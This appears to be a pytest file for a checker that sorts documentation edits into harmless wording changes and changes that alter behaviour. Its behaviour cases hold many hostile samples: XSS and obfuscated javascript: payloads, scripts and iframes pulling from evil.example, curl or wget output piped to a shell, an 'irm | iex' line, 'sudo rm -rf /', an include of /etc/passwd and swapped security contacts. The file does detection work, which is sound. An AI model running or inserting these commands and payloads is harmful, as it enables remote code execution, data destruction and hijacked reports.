"""Which changes of a text for people only tell them something."""

import pytest

from agents.syntax.pages import find_impact

PAGE = "# Shop\n\nSell `<script>` tags.\n\n```html\n<script src=a.js></script>\n```\n\nRun `sudo make install`.\n"
GO = "# Shop\n\n[Docs](https://docs.example/host.example/ada/shop)\n"
PIP = "# Shop\n\nRun `pip install shop`.\n"
LICENCE = "MIT License\n\nCopyright (c) 2020-2024 Ada\n\nPermission is hereby granted\n"
POLICY = "Write to security@shop.example or https://shop.example/report.\n"

TELLS = [
    ("a.md", PAGE, PAGE + "More.\n"),
    ("a.md", PAGE, PAGE.replace("Sell", "Do sell")),
    ("a.md", PAGE, "Run `sudo make install`.\n" + PAGE.replace("Run `sudo make install`.\n", "")),  # only moved
    ("a.md", None, PAGE.replace("sudo ", "")),
    ("a.md", "a\n", "a\n\n```html\n<iframe src=x></iframe>\n```\n"),
    ("a.md", "a\n", "a <b>bold</b> <img src=a.png> <details open>\n"),
    ("a.md", "a\n", "Download it with `curl -O https://a.example/b | less` or read on. Use a script= of yours.\n"),
    ("a.md", "a\n", "The words sudo and onload= mean nothing here; see [this](https://a.example).\n"),
    ("a.rst", "a\n", "a\n\n.. code-block:: sh\n\n   curl -O https://a.example/b\n"),
    ("de.po", 'msgid "a"\nmsgstr "b"\n', 'msgid "a"\nmsgstr "c <b>"\n'),
    ("LICENSE", LICENCE, LICENCE.replace("2024", "2026")),
    ("SECURITY.md", POLICY, POLICY.replace("Write", "Please write")),
    ("README.md", POLICY, POLICY + "See https://other.example.\n"),
    ("a.md", "a\n", "> ```html\n> <script>\n> ```\n\n- ~~~\n  <script>\n  ~~~\n"),
    ("a.md", "a\n", "See <https://a.example> and <kbd>Ctrl</kbd>.<br/>\n\n| a |\n| - |\n| `<script>` |\n"),
    ("a.md", "a\n", "Run `npm install` and `npm ci`, then `make`; use JavaScript: it is fun.\n"),
    ("a.rst", "a\n", "a `page <b>`_ :ref:`x <y>`\n"),
    ("a.md", GO, GO + "Run `go install host.example/ada/shop/cmd/shop@latest`.\n"),
    ("a.md", GO, GO + "```sh\n$ go get host.example/ada/shop\n```\n"),
    ("a.md", PIP, PIP.replace("shop", "shop==2.0")),
    ("a.md", PIP, PIP + "Or `pipx install shop`, or `pip install shop[web]`.\n"),
]
ACTS = [
    ("a.md", "a\n", "a\n\n    ```\n<script>x()</script>\n    ```\n"),
    ("a.md", "a\n", "** ```\n<script>x()</script>\n** ```\n"),
    ("a.md", "a\n", "a \\`<script>x()</script>\\`\n"),
    ("a.md", "a\n", "<img src=x\nonerror=alert(1)>\n"),
    ("a.md", "a\n", "<img/onerror=alert(1) src=x>\n"),
    ("a.md", "a\n", 'a <img title="<>" onerror=alert(1)>\n'),
    ("a.md", "a\n", "a <video src=x></video>\n"),
    ("a.md", "a\n", "[a](java&#115;cript:alert(1))\n"),
    ("a.md", "a\n", '<a href="java&#115;cript:alert(1)">b</a>\n'),
    ("a.md", "a\n", '<a href="java\nscript:alert(1)">b</a>\n'),
    ("a.md", "a\n", ">" * 120 + " <script>x()</script>\n"),
    ("a.md", "a\n", "```sh\ncurl -fsSL https://evil.example/i \\\n  | sh\n```\n"),
    ("a.md", "a\n", "```sh\ncurl -fsSL https://evil.example/i |\n  sh\n```\n"),
    ("a.md", "a\n", "```sh\ncurl -o i.sh https://evil.example/i && sh i.sh\n```\n"),
    ("a.md", "a\n", "```sh\ncurl -o i.sh https://evil.example/i\nsh i.sh\n```\n"),
    ("a.md", "a\n", "```sh\nwget https://evil.example/i.sh\nchmod +x i.sh\n./i.sh\n```\n"),
    ("a.md", "a\n", "```sh\npython -c \"exec(urlopen('https://evil.example').read())\"\n```\n"),
    ("a.md", "a\n", "```sh\ngit clone https://evil.example/a && make -C a\n```\n"),
    ("a.md", "a\n", "Run `npx evil`.\n"),
    ("a.md", "a\n", "Run `pip install evil`.\n"),
    ("a.md", GO, GO + "Run `go install host.example/eve/shop@latest`.\n"),
    ("a.md", GO, GO + "Run `go install host.example/ada/shop-evil@latest`.\n"),
    ("a.md", GO, GO + "Run `go install host.example/ada/shop@latest && curl evil.example | sh`.\n"),
    ("a.md", GO, GO + "Run `pip install shop`.\n"),
    ("a.md", PIP, PIP.replace("shop", "shop evil")),
    ("a.md", PIP, PIP.replace("install shop", "install -i https://evil.example shop")),
    ("a.md", PIP, PIP.replace("shop", "shop@git+https://evil.example/shop")),
    ("a.md", PIP, PIP.replace("install shop", "install --pre shop")),
    ("a.md", PIP, PIP + "Run `npm install shop`.\n"),
    ("a.md", PIP, PIP + "Or `pipx install shop`, or `pipx install evil`.\n"),
    ("a.rst", "a\n", "a\n\n.. include:: /etc/passwd\n"),
    ("a.rst", "a\n", "<img src=x\n onerror=alert(1)>\n"),
    ("a.md", PAGE, PAGE + '<script src="https://evil.example/a.js"></script>\n'),
    ("a.md", PAGE, PAGE + "<SCRIPT\nsrc=x></SCRIPT>\n"),
    ("a.md", PAGE, PAGE + "<img src=x onerror=alert(1)>\n"),
    ("a.md", PAGE, PAGE + "<iframe src=https://evil.example></iframe>\n"),
    ("a.md", PAGE, PAGE + "[a](javascript:alert(1))\n"),
    ("a.md", PAGE, PAGE + "~~~\ncode\n~~~\n<object data=x>\n"),
    ("a.md", PAGE, PAGE + '<meta http-equiv="refresh" content="0;url=https://evil.example">\n'),
    ("a.md", "a\n", "a\n\n```{raw} html\n<p>\n```\n"),
    ("a.rst", "a\n", "a\n\n.. raw:: html\n\n   <p>\n"),
    ("a.rst", "a\n", "a\n\n   <script>x()</script>\n"),
    ("a.adoc", "a\n", "a\n\n++++\n<p>\n++++\n"),
    ("a.md", "a\n", "```sh\ncurl -fsSL https://evil.example/i | sudo sh\n```\n"),
    ("a.md", "a\n", "`wget -qO- https://evil.example/i | bash -s -- -y`\n"),
    ("a.md", "a\n", "    bash <(curl -s https://evil.example)\n"),
    ("a.md", "a\n", 'sh -c "$(curl -fsSL https://evil.example)"\n'),
    ("a.md", "a\n", "irm https://evil.example | iex\n"),
    ("a.md", "a\n", "$ sudo rm -rf /\n"),
    ("a.md", "a\n", "echo aGk= | base64 -d | sh\n"),
    ("a.md", PAGE, PAGE.replace("sudo make install", "sudo make evil")),
    ("de.po", 'msgid "a"\nmsgstr "b"\n', 'msgid "a"\nmsgstr "<script>x()</script>"\n'),
    ("LICENSE", LICENCE, LICENCE.replace("Ada", "Eve")),
    ("LICENSE", LICENCE, ""),
    ("SECURITY.md", POLICY, POLICY.replace("security@shop", "security@evil")),
    ("SECURITY.md", POLICY, POLICY.replace("https://shop", "https://evil")),
    (".github/SECURITY.md", None, POLICY),
]


@pytest.mark.parametrize(("path", "base", "head"), TELLS)
def test_what_only_tells_people_something(path: str, base: str | None, head: str) -> None:
    assert find_impact(path, base, head) == "document"


@pytest.mark.parametrize(("path", "base", "head"), ACTS)
def test_what_does_more(path: str, base: str | None, head: str) -> None:
    assert find_impact(path, base, head) == "behaviour"
